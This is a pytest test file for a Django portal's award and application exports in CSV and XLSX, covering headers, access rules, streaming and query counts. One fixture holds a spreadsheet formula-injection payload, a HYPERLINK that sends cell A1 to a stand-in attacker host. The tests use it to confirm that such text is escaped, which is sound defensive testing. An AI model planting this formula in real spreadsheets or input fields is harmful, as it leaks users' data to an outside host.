"""Exports of a call: the award list and all applications with their aggregates, as CSV
(UTF-8 with BOM, streamed) and XLSX (re-read with openpyxl), from the page
(reviews:awards_export, reviews:applications_export) and the API — who may download them,
what they hold, formula escaping, a bad format, and a query count that does not grow."""

import csv
import io
from decimal import Decimal
from urllib.parse import quote

import openpyxl
import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from django.utils import translation

from applications.models import ApplicationStatus, BudgetLine
from portal.accounts.roles import Role
from reviews.exports import CSV_ROWS_PER_CHUNK, escape
from reviews.models import AwardStatus
from reviews.selectors.ranking import ranking_of_call
from tests.factories import UserFactory, make_applicant
from tests.reviews.award_factories import make_award
from tests.reviews.factories import make_accepted_application, make_call_with_rubric, make_expert, make_staff
from tests.reviews.test_ranking import add_reviews, build_call, pool

pytestmark = pytest.mark.django_db

D = Decimal
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
# Session, user, call (+ its fields), guide tasks (labels), awards, partners — the same at 2 and
# at 50 awards (one chunk of awards and one of partners per 500 awards).
MAX_QUERIES = 7
# Session, user, call (+ its fields), guide tasks, applications, requested funds, and the
# ranking's reads (tasks, criteria, applications, reviews, scores).
MAX_QUERIES_APPLICATIONS = 12


def awards_url(call, fmt: str | None = "csv") -> str:
    url = reverse("reviews:awards_export", args=[call.pk])
    return f"{url}?format={fmt}" if fmt is not None else url


def applications_url(call, fmt: str = "csv") -> str:
    return reverse("reviews:applications_export", args=[call.pk]) + f"?format={fmt}"


def api_awards_url(call, fmt: str = "csv") -> str:
    return reverse("api-awards-export", args=[call.pk]) + f"?format={fmt}"


def api_applications_url(call, fmt: str = "csv") -> str:
    return reverse("api-applications-export", args=[call.pk]) + f"?format={fmt}"


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[list[str]]:
    raw = body(response)
    assert raw.startswith(b"\xef\xbb\xbf"), raw[:10]
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def workbook(response):
    return openpyxl.load_workbook(io.BytesIO(body(response)))


@pytest.fixture
def call():
    return make_call_with_rubric()


@pytest.fixture
def staff_client(client):
    client.force_login(make_staff("SC"))
    return client


@pytest.fixture
def awards(call):
    return [
        make_award(call, field="ai", amount_sc=D("500000"), amount_cq=D("300000"), score=D("88.5")),
        make_award(
            call,
            field="health",
            province="SC",
            amount_sc=D("1234500"),
            amount_cq=D("0"),
            status=AwardStatus.FINAL,
            score=D("80"),
            title=EVIL,
        ),
        make_award(call, field="ai", status=AwardStatus.WITHDRAWN, title="撤销的项目"),
    ]


# --- The award list as CSV ----------------------------------------------------------------------


def test_the_csv_is_utf8_with_bom_streamed_and_named_in_chinese(staff_client, call, awards):
    response = staff_client.get(awards_url(call))

    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    # RFC 5987: the Chinese name percent-encoded in filename*.
    assert f"filename*=utf-8''{quote('川渝联合研发立项清单-2021.csv')}" in response["Content-Disposition"]
    assert response["Content-Disposition"].startswith("attachment")
    assert "no-store" in response["Cache-Control"]
    assert body(response).startswith(b"\xef\xbb\xbf")


def test_the_csv_headers_follow_the_language_chinese_by_default(staff_client, call, awards):
    chinese = csv_rows(staff_client.get(awards_url(call)))[0]
    english = csv_rows(staff_client.get(awards_url(call), HTTP_ACCEPT_LANGUAGE="en"))[0]

    assert chinese[2:9] == [
        "项目名称",
        "领域",
        "指南任务",
        "牵头单位",
        "统一社会信用代码",
        "合作单位",
        "项目负责人",
    ]
    assert english == [
        "No.",
        "Notice number",
        "Project title",
        "Field",
        "Guide task",
        "Lead unit",
        "Unified social credit code",
        "Partner units",
        "Project leader",
        "Sichuan funding (10,000 yuan)",
        "Chongqing funding (10,000 yuan)",
        "Total (10,000 yuan)",
        "Status",
        "Review score",
    ]


def test_the_csv_lists_live_awards_in_notice_order_with_amounts_in_wan_and_status(staff_client, call, awards):
    rows = csv_rows(staff_client.get(awards_url(call), HTTP_ACCEPT_LANGUAGE="en"))

    ai, health, withdrawn = awards
    data = rows[1:]
    # Withdrawn awards are not in the list; fields in their order (ai before health).
    assert len(data) == 2
    assert withdrawn.application.title not in {row[2] for row in data}
    first = data[0]
    assert first[0] == "1"
    assert first[2] == ai.application.title
    assert first[3] == "Artificial intelligence"
    assert first[4].startswith(ai.application.guide_task.code)
    assert first[5] == ai.application.lead_unit.name
    assert first[6] == ai.application.lead_unit.uscc
    assert first[7] == ai.application.partners.get().name
    assert first[8] == ai.application.pi.full_name
    assert first[9:12] == ["50.00", "30.00", "80.00"]
    assert first[12] == "Approved by both bureaus"
    assert first[13] == "88.50"
    second = data[1]
    assert second[0] == "2"
    assert second[9:12] == ["123.45", "0.00", "123.45"]
    assert second[12] == "Final"


def test_a_title_that_looks_like_a_formula_is_escaped_in_the_csv(staff_client, call, awards):
    rows = csv_rows(staff_client.get(awards_url(call)))

    titles = [row[2] for row in rows[1:]]
    assert "'" + EVIL in titles
    assert EVIL not in titles


def test_the_csv_streams_in_chunks_of_rows(staff_client, call):
    for _ in range(CSV_ROWS_PER_CHUNK + 1):
        make_award(call, amount_sc=D("10000"), amount_cq=D("10000"), quota=500)

    response = staff_client.get(awards_url(call))

    chunks = list(response.streaming_content)
    assert len(chunks) == 2
    assert len(list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8-sig"))))) == CSV_ROWS_PER_CHUNK + 2


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 123", "'+86 123"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("人工智能=未来", "人工智能=未来"),
        ("a-b", "a-b"),
        ("", ""),
    ],
)
def test_text_starting_like_a_formula_gets_a_leading_apostrophe(text, written):
    assert escape(text) == written


# --- The award list as XLSX ---------------------------------------------------------------------


def test_the_xlsx_has_headers_numbers_a_totals_row_and_escaped_text(staff_client, call, awards):
    response = staff_client.get(awards_url(call, "xlsx"), HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    assert f"filename*=utf-8''{quote('川渝联合研发立项清单-2021.xlsx')}" in response["Content-Disposition"]
    sheet = workbook(response).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    assert header[0] == "No."
    assert header[9] == "Sichuan funding (10,000 yuan)"
    assert all(cell.font.b for cell in rows[0])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["C"].width >= 30

    first, second, totals = rows[1], rows[2], rows[3]
    assert len(rows) == 4
    assert first[0].value == 1
    assert [first[i].value for i in (9, 10, 11)] == [50, 30, 80]
    assert all(first[i].number_format == "#,##0.00" and first[i].data_type == "n" for i in (9, 10, 11))
    assert first[13].value == 88.5
    assert first[13].number_format == "0.00"
    assert second[2].value == "'" + EVIL
    assert second[2].data_type == "s"
    # The totals row: plain numbers, the sums of the cells above.
    assert totals[0].value == "Total"
    assert [totals[i].value for i in (9, 10, 11)] == [pytest.approx(173.45), 30, pytest.approx(203.45)]
    assert not any(isinstance(cell.value, str) and cell.value.startswith("=") for row in rows for cell in row)


def test_the_xlsx_headers_are_chinese_by_default(staff_client, call, awards):
    sheet = workbook(staff_client.get(awards_url(call, "xlsx"))).active

    header = [cell.value for cell in next(sheet.iter_rows())]
    assert header[2] == "项目名称"
    assert header[5] == "牵头单位"
    assert [cell.value for cell in list(sheet.iter_rows())[-1]][0] == "合计"


def test_without_a_format_the_download_is_xlsx(staff_client, call, awards):
    response = staff_client.get(awards_url(call, None))

    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE


def test_an_empty_award_list_is_a_header_only(staff_client, call):
    rows = csv_rows(staff_client.get(awards_url(call)))
    sheet = workbook(staff_client.get(awards_url(call, "xlsx"))).active

    assert len(rows) == 1
    assert len(list(sheet.iter_rows())) == 2  # the header and a totals row of zeros


# --- A bad format -------------------------------------------------------------------------------


def test_an_unknown_format_is_a_400_page_naming_the_parameter_and_the_allowed_values(
    staff_client, call, awards
):
    with translation.override("en"):
        response = staff_client.get(awards_url(call, "pdf"), HTTP_ACCEPT_LANGUAGE="en")
        applications = staff_client.get(applications_url(call, "json"), HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 400
    content = response.content.decode()
    assert "format" in content
    assert "csv, xlsx" in content
    assert "pdf" in content
    assert applications.status_code == 400


def test_an_unknown_format_is_a_400_in_the_api_on_the_format_field(api_client, call, awards):
    api_client.force_authenticate(make_staff("CQ"))

    with translation.override("en"):
        response = api_client.get(api_awards_url(call, "pdf"), HTTP_ACCEPT_LANGUAGE="en")

    assert response.status_code == 400
    error = response.json()["errors"][0]
    assert error["field"] == "format"
    assert error["code"] == "unknown_format"
    assert "csv, xlsx" in error["message"]


# --- The API ------------------------------------------------------------------------------------


def test_the_api_sends_the_same_files(api_client, staff_client, call, awards):
    api_client.force_authenticate(make_staff("CQ"))

    api_csv = api_client.get(api_awards_url(call, "csv"), HTTP_ACCEPT="text/csv")
    api_xlsx = api_client.get(api_awards_url(call, "xlsx"))
    page_csv = staff_client.get(awards_url(call, "csv"))

    assert api_csv.status_code == 200
    assert api_csv["Content-Type"] == "text/csv; charset=utf-8"
    assert body(api_csv) == body(page_csv)
    assert api_xlsx.status_code == 200
    assert api_xlsx["Content-Type"] == XLSX_TYPE
    assert workbook(api_xlsx).active.max_row == 4


def test_the_schema_documents_binary_responses_and_the_format_parameter():
    from drf_spectacular.generators import SchemaGenerator

    schema = SchemaGenerator().get_schema(request=None, public=True)

    for path in ("/api/v1/calls/{id}/awards/export/", "/api/v1/calls/{id}/applications/export/"):
        get = schema["paths"][path]["get"]
        content = get["responses"]["200"]["content"]
        assert content["text/csv"]["schema"] == {"type": "string", "format": "binary"}
        assert content[XLSX_TYPE]["schema"] == {"type": "string", "format": "binary"}
        [parameter] = [p for p in get["parameters"] if p["name"] == "format"]
        assert parameter["schema"]["enum"] == ["csv", "xlsx"]
        assert "400" in get["responses"]


# --- Who may download ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "make_user",
    [lambda: make_staff("SC"), lambda: make_staff("CQ"), lambda: UserFactory(role=Role.ADMIN)],
    ids=["staff-SC", "staff-CQ", "admin"],
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_review_staff_of_both_provinces_and_admins_download_both_exports(
    client, api_client, call, awards, make_user, fmt
):
    user = make_user()
    client.force_login(user)
    api_client.force_authenticate(user)

    for url in (awards_url(call, fmt), applications_url(call, fmt)):
        assert client.get(url).status_code == 200
    for url in (api_awards_url(call, fmt), api_applications_url(call, fmt)):
        assert api_client.get(url).status_code == 200


@pytest.mark.parametrize(
    "make_user",
    [make_applicant, lambda: make_expert("SC").user],
    ids=["applicant", "expert"],
)
def test_applicants_and_experts_are_refused(client, api_client, call, awards, make_user):
    user = make_user()
    client.force_login(user)
    api_client.force_authenticate(user)

    for url in (awards_url(call), applications_url(call)):
        assert client.get(url).status_code == 403
    with translation.override("en"):
        api = api_client.get(api_awards_url(call), HTTP_ACCEPT_LANGUAGE="en")
    assert api.status_code == 403
    assert "bureau staff" in api.json()["detail"]
    assert api_client.get(api_applications_url(call)).status_code == 403


def test_the_project_leader_of_an_award_is_refused_too(client, call, awards):
    client.force_login(awards[0].application.pi)

    assert client.get(awards_url(call)).status_code == 403


def test_an_anonymous_visitor_is_sent_to_sign_in_and_the_api_answers_401(client, api_client, call, awards):
    page = client.get(awards_url(call))

    assert page.status_code == 302
    assert page["Location"].startswith(reverse("accounts:login"))
    assert client.get(applications_url(call)).status_code == 302
    assert api_client.get(api_awards_url(call)).status_code == 401


def test_an_unknown_call_is_404(staff_client, api_client):
    api_client.force_authenticate(make_staff("SC"))

    assert staff_client.get(reverse("reviews:awards_export", args=[999999])).status_code == 404
    assert api_client.get(reverse("api-awards-export", args=[999999])).status_code == 404


# --- All applications with their aggregates ----------------------------------------------------


def test_the_applications_export_carries_the_rankings_aggregates(staff_client):
    call, _experts, applications = build_call(6, experts=10, reviews=5)

    rows = csv_rows(staff_client.get(applications_url(call), HTTP_ACCEPT_LANGUAGE="en"))

    header, data = rows[0], rows[1:]
    assert header[:2] == ["Rank", "Reference"]
    assert header[11:] == ["Reviews", "Mean", "Trimmed mean", "Median", "Standard deviation", "Spread"]
    ranking = ranking_of_call(call=call)
    assert len(data) == len(ranking.rows) == 6
    for row, ranked in zip(data, ranking.rows, strict=True):
        aggregate = ranked.aggregate
        assert row[1] == ranked.application.reference
        assert row[0] == str(ranked.rank)
        assert row[11:] == [
            str(aggregate.n),
            str(aggregate.mean),
            str(aggregate.trimmed_mean),
            str(aggregate.median),
            str(aggregate.sd),
            str(aggregate.spread),
        ]
        assert row[4] == "Under expert review"


def test_the_applications_export_includes_every_submitted_application_with_requested_funds(staff_client):
    call = make_call_with_rubric()
    experts = pool(4)
    reviewed = make_accepted_application(call, status=ApplicationStatus.UNDER_REVIEW, title="已评审")
    add_reviews(reviewed, experts[:3], [D("0.8"), D("0.9"), D("0.7")])
    waiting = make_accepted_application(call, province="SC", title="待受理")
    waiting.status = ApplicationStatus.ENDORSED
    waiting.save(update_fields=["status"])
    draft = make_accepted_application(call, title="草稿")
    draft.status, draft.submitted_at = ApplicationStatus.DRAFT, None
    draft.save(update_fields=["status", "submitted_at"])
    partner = reviewed.partners.get()
    BudgetLine.objects.bulk_create(
        [
            BudgetLine(
                application=reviewed,
                unit_uscc=reviewed.lead_unit.uscc,
                category="equipment",
                source="cq_gov",
                amount=D("600000"),
            ),
            BudgetLine(
                application=reviewed,
                unit_uscc=reviewed.lead_unit.uscc,
                category="materials",
                source="cq_gov",
                amount=D("150000"),
            ),
            BudgetLine(
                application=reviewed,
                unit_uscc=partner.uscc,
                category="equipment",
                source="sc_gov",
                amount=D("420000"),
            ),
            BudgetLine(
                application=reviewed,
                unit_uscc=partner.uscc,
                category="materials",
                source="self",
                amount=D("999999"),
            ),
        ]
    )

    rows = csv_rows(staff_client.get(applications_url(call), HTTP_ACCEPT_LANGUAGE="en"))

    by_title = {row[2]: row for row in rows[1:]}
    assert set(by_title) == {"已评审", "待受理"}
    assert by_title["已评审"][0] == "1"
    assert by_title["已评审"][9:12] == ["42.00", "75.00", "3"]
    assert by_title["待受理"][0] == ""
    assert by_title["待受理"][4] == "Endorsed by the unit"
    assert by_title["待受理"][8] == "Sichuan"
    assert by_title["待受理"][9:] == ["0.00", "0.00", "", "", "", "", "", ""]
    # Ranked first, the rest after.
    assert rows[1][2] == "已评审"


def test_the_applications_xlsx_has_numbers_and_a_totals_row(staff_client):
    call, _experts, _applications = build_call(3, experts=10, reviews=5)

    sheet = workbook(staff_client.get(applications_url(call, "xlsx"), HTTP_ACCEPT_LANGUAGE="en")).active

    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][0] == "Rank"
    assert [row[0] for row in rows[1:4]] == [1, 2, 3]
    assert all(isinstance(row[12], (int, float)) for row in rows[1:4])
    assert rows[-1][0] == "Total"


# --- Queries ------------------------------------------------------------------------------------


@pytest.mark.parametrize("count", [2, 50])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_award_export_reads_a_fixed_number_of_queries(
    staff_client, call, django_assert_max_num_queries, count, fmt
):
    for i in range(count):
        make_award(call, field=("ai", "health")[i % 2], amount_sc=D("10000"), amount_cq=D("10000"), quota=60)

    with django_assert_max_num_queries(MAX_QUERIES):
        response = staff_client.get(awards_url(call, fmt))
        content = body(response)

    assert response.status_code == 200
    if fmt == "csv":
        assert content.count(b"\r\n") == count + 1
    else:
        assert openpyxl.load_workbook(io.BytesIO(content)).active.max_row == count + 2


@pytest.mark.parametrize("count", [2, 50])
def test_the_applications_export_reads_a_fixed_number_of_queries(
    staff_client, django_assert_max_num_queries, count
):
    call, _experts, _applications = build_call(count, experts=10, reviews=3)

    with django_assert_max_num_queries(MAX_QUERIES_APPLICATIONS):
        response = staff_client.get(applications_url(call))
        content = body(response)

    assert content.count(b"\r\n") == count + 1
